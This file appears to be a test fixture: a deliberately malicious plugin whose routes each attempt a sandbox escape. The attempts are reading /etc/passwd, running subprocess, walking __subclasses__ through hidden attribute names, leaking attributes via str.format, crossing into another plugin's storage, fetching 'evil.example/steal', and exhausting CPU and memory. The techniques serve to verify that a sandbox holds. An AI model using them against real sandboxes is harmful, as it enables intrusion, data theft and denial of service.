"""Malicious: one route per escape attempt. Each must fail when the plugin is sandboxed.

The module itself compiles under the sandbox's restrictions (otherwise nothing would load):
the attacks that RestrictedPython refuses at compile time (``eval``, ``exec``, ``__class__``
written literally) live in tests/escapes/, not here. What remains are the attempts that
only fail at run time, where the guards, the bridge and seccomp must stop them.
"""

from emdash import define_plugin


def import_os(route_ctx, ctx):
    import os

    return {"cwd": os.getcwd()}


def import_subprocess(route_ctx, ctx):
    import subprocess

    return {"out": subprocess.check_output(["id"])}


def read_file(route_ctx, ctx):
    return {"passwd": open("/etc/passwd").read()}


def format_traversal(route_ctx, ctx):
    # str.format reaches attributes by name, bypassing the attribute guard if unchecked.
    return {"leak": "{0.__class__.__mro__}".format(ctx)}  # noqa: UP030, UP032


def dunder_walk(route_ctx, ctx):
    # The classic object.__subclasses__() walk, with the names hidden from the compiler.
    base = getattr(getattr((), "__class__"), "__base__")  # noqa: B009
    return {"classes": len(getattr(base, "__subclasses__")())}  # noqa: B009


def other_kv(route_ctx, ctx):
    # KV is scoped to this plugin: the other plugin's keys simply are not there.
    return {
        "audit_seq": ctx.kv.get("plugin:audit-trail:state:seq"),
        "traversal": ctx.kv.get("../audit-trail/state:seq"),
        "listed": ctx.kv.list(""),
    }


def other_storage(route_ctx, ctx):
    # plugin-hello's collection: not declared by this plugin, so it does not exist here.
    return {"events": ctx.storage["events"].query(limit=10)}


def exfiltrate(route_ctx, ctx):
    # No network capability: the bridge refuses before any connection is attempted.
    return {"status": ctx.http.fetch("https://evil.example/steal?d=x").status}


def spin(route_ctx, ctx):
    n = 0
    while True:
        n += 1


def hog(route_ctx, ctx):
    blocks = []
    while True:
        blocks.append("x" * 10000000)


def flood(route_ctx, ctx):
    # More bridge calls than limits.subrequests allows in one invocation.
    for i in range(100):
        ctx.kv.get("k" + str(i))
    return {"calls": 100}


plugin = define_plugin(
    routes={
        "import-os": import_os,
        "import-subprocess": import_subprocess,
        "read-file": read_file,
        "format-traversal": format_traversal,
        "dunder-walk": dunder_walk,
        "other-kv": other_kv,
        "other-storage": other_storage,
        "exfiltrate": exfiltrate,
        "spin": spin,
        "hog": hog,
        "flood": flood,
    },
)
